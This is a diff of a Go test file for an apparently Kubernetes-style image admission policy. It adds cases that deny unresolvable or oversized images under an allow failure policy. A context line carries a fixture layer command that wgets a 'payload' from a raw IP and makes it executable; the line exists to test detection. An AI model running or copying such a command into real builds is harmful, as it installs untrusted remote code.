@@ -169,6 +169,20 @@ func TestDecide(t *testing.T) {
 			wantRules: []string{"registry-unavailable/warn"},
 		},
 		{
+			name:        "invalid image, failurePolicy allow",
+			spec:        Spec{Registries: base.Registries, FailurePolicy: FailAllow},
+			facts:       pod(Container{Image: "ghcr.io/acme/shop:1", Err: &ResolveError{Kind: ErrInvalidImage, Message: "config does not decode: unexpected EOF"}}),
+			wantOutcome: OutcomeDeny, wantMode: ModeEnforce,
+			wantRules: []string{"unresolvable-image/deny"},
+		},
+		{
+			name:        "too large, failurePolicy allow",
+			spec:        Spec{Registries: base.Registries, FailurePolicy: FailAllow},
+			facts:       pod(Container{Image: "ghcr.io/acme/shop:1", Err: &ResolveError{Kind: ErrTooLarge, Message: "manifest is 60000000 bytes"}}),
+			wantOutcome: OutcomeDeny, wantMode: ModeEnforce,
+			wantRules: []string{"unresolvable-image/deny"},
+		},
+		{
 			name:        "download from raw IP",
 			spec:        base,
 			facts:       pod(Container{Image: "ghcr.io/acme/shop:1", Resolved: image(aged, "RUN /bin/sh -c wget -q http://203.0.113.9/payload -O /usr/bin/p && chmod +x /usr/bin/p # buildkit")}),
